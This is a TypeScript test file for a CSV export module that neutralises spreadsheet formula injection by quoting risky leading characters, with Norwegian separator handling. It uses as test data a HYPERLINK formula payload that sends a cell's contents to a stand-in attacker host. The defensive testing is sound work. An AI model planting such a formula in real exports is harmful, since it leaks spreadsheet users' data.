import { csvFile, csvStream, neutraliseCell } from './csv';

const payload = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';

describe('CSV cells (OWASP formula injection)', () => {
  it('prefixes a cell that begins with =, +, -, @, tab or carriage return with a quote', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutraliseCell(payload)).toBe(`'${payload}`);
  });

  it('leaves ordinary text alone, also a formula character later in the cell', () => {
    for (const text of ['Kari Nordmann', 'Ås', 'a=b', ' =x', '', "O'Brien"]) expect(neutraliseCell(text)).toBe(text);
  });

  it('writes every text cell of a file through the rule, numbers as numbers, with a BOM', () => {
    const out = csvFile([
      ['Navn', 'Minutter'],
      [payload, -5],
      ['@SUM(A1:A2)', 3],
    ], 'en');
    expect(out.startsWith('\uFEFF')).toBe(true);
    expect(out.slice(1).split('\n')).toEqual(['Navn,Minutter', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",-5`, "'@SUM(A1:A2),3", '']);
  });

  it('does the same in a stream', async () => {
    const csv = csvStream(['Navn', 'Fylke'], 'en');
    const chunks: string[] = [];
    csv.on('data', (c: Buffer | string) => chunks.push(String(c)));
    const done = new Promise((ok) => csv.on('end', ok));
    csv.write(['+47 999', '-Oslo']);
    csv.end();
    await done;
    expect(chunks.join('')).toBe("\uFEFFNavn,Fylke\n'+47 999,'-Oslo\n");
  });

  it('separates with semicolons for Norwegian readers (Excel in Norwegian splits on them)', () => {
    expect(csvFile([['Navn', 'Timer'], ['Kari', '1,5']], 'no')).toBe('\uFEFFNavn;Timer\nKari;1,5\n');
  });
});
